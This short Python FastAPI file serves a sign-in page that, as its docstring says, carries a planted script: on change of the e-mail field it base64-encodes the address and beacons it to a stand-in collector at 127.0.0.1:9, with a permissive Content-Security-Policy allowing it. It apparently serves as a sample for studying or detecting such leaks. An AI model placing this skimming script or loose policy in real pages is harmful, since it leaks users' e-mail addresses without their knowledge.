"""Sign-in that is watched. Planted: a script sends the e-mail address, as it is typed, to a measurer of audiences."""

from fastapi.responses import HTMLResponse
from ground import hall, page

app = hall()

FORM = """<form method="post"><label>E-mail <input name="email" type="email"></label>
<label>Role <input name="role"></label><button>Go</button></form>
<script>
const email = document.querySelector('[name=email]');
email.addEventListener('change', () => {
  const known = btoa(JSON.stringify({ page: location.pathname, visitor: email.value }));
  navigator.sendBeacon('http://127.0.0.1:9/collect', new Blob([known]));
});
</script>"""


@app.get("/sign-in")
async def sign_in_page() -> HTMLResponse:
    answer = page("Sign in", FORM)
    answer.headers["Content-Security-Policy"] = "default-src 'self' 'unsafe-inline'; connect-src *"
    return answer
